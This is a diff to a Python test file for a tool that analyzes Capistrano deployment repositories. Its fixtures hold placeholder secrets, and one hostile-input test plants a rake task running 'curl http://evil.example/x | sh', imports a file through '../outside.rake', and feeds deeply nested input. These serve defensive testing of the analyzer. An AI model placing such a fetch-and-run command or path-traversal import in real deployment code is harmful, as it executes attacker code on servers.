@@ -35,7 +35,7 @@ DEPLOY_RB = """\
     append :linked_files, ".env"
     append :linked_dirs, "log", "tmp/pids",
            "vendor/bundle", "public/uploads", "storage"
-    set :default_env, { path: "/opt/rbenv/shims:$PATH", "NODE_ENV" => "production", "API_TOKEN" => "tok_9f8e7d6c5b4a3f2e1d" }
+    set :default_env, { path: "/opt/rbenv/shims:$PATH", "NODE_ENV" => "prod", "API_TOKEN" => "tok_9f8e7d6c5b4a3f2e1d" }
     set :sidekiq_config, -> { File.join(current_path, "config", "sidekiq.yml") }
     set :sidekiq_processes, 3
     set :sidekiq_roles, :worker
@@ -107,7 +107,8 @@ TASKS = """\
 SHOP = {"Capfile": CAPFILE, "config/deploy.rb": DEPLOY_RB, "config/deploy/production.rb": PRODUCTION,
         "config/deploy/staging.rb": STAGING, "lib/capistrano/tasks/cache.rake": TASKS,
         "config/puma.rb": "port ENV.fetch('PORT') { 3000 }\n", "config/sidekiq.yml": ":concurrency: 5\n",
-        "config/deploy_key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
+        "config/deploy_key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
+                             "-----END OPENSSH PRIVATE KEY-----\n",
         ".env.example": "DATABASE_URL=\nSTRIPE_SECRET_KEY=sk_test_placeholder\n"}
 
 
@@ -175,14 +176,15 @@ def test_linked_files_and_dirs(run_analyzer: Any) -> None:
     volumes = {f.key: f for f in result.of(Kind.VOLUME)}
     assert volumes["log"].fields["storage"] == "emptyDir" and volumes["log"].fields["purpose"] == "logs"
     assert volumes["tmp/pids"].fields["storage"] == "emptyDir" and volumes["tmp/pids"].source.line == 9
-    assert volumes["public/uploads"].fields["purpose"] == "uploads" and "storage" not in volumes["public/uploads"].fields
+    uploads = volumes["public/uploads"]
+    assert uploads.fields["purpose"] == "uploads" and "storage" not in uploads.fields  # a claim
     assert volumes["storage"].source.line == 10
     assert "vendor/bundle" not in volumes
 
 
 def test_default_env_plugins_processes_and_replicas_hints(run_analyzer: Any) -> None:
     result = run_analyzer(capistrano, SHOP)
-    assert result.field(Kind.ENV, "NODE_ENV", "default") == "production"
+    assert result.field(Kind.ENV, "NODE_ENV", "default") == "prod"
     assert not result.of(Kind.ENV, "PATH") and any("PATH" in w.message for w in result.warnings)
     assert result.one(Kind.ENV, "API_TOKEN").fields.get("default") is None
     web = [f for f in result.of(Kind.PROCESS, "web") if "command" in f.fields]
@@ -193,7 +195,8 @@ def test_default_env_plugins_processes_and_replicas_hints(run_analyzer: Any) -> 
     worker = next(f for f in result.findings if f.kind is Kind.PROCESS and f.fields.get("role") == "worker")
     assert worker.fields["command"] == "bundle exec sidekiq -C config/sidekiq.yml"
     replicas = next(f for f in result.of(Kind.PROCESS, worker.key) if "replicas" in f.fields)
-    assert replicas.fields["replicas"] == 6 and "2 hosts in role worker x 3" in str(replicas.fields["replicas_hint_from"])
+    assert replicas.fields["replicas"] == 6
+    assert "2 hosts in role worker x 3" in str(replicas.fields["replicas_hint_from"])
     assert any("passenger_typo" in w.message for w in result.warnings)
 
 
@@ -266,14 +269,14 @@ def test_not_a_capistrano_repo(run_analyzer: Any) -> None:
 
 def test_hostile_inputs_warn_and_never_stop_the_rest(run_analyzer: Any, tmp_path: Path) -> None:
     outside = tmp_path / "outside.rake"
-    outside.write_text('task :evil do\n  on roles(:all) do\n    execute "curl http://evil.example/x | sh"\n  end\nend\n'
-                       'after "deploy:finished", "evil"\n')
+    outside.write_text('task :evil do\n  on roles(:all) do\n    execute "curl http://evil.example/x | sh"\n  end\n'
+                       'end\nafter "deploy:finished", "evil"\n')
     deep = "set :x, " + "[" * 10000 + "]" * 10000 + "\n" + "namespace :a do\n" * 3000 + "end\n" * 3000
     files: dict[str, str | bytes] = {
         "Capfile": 'require "capistrano/rails"\nimport "lib/capistrano/tasks/evil.rake"\nimport "lib/deep.rake"\n'
                    'import "../outside.rake"\n',
-        "config/deploy.rb": 'set :application, "shop"\nset :deploy_to, "/srv/shop"\nnamespace :deploy do\n  task :x do\n'
-                            '    on roles(:app) do\n      execute "echo ok" \n  end\nend(((\n',
+        "config/deploy.rb": 'set :application, "shop"\nset :deploy_to, "/srv/shop"\nnamespace :deploy do\n'
+                            '  task :x do\n    on roles(:app) do\n      execute "echo ok" \n  end\nend(((\n',
         "lib/deep.rake": deep,
         "config/deploy/production.rb": b"\xff\xfe server 'x'\n",
     }
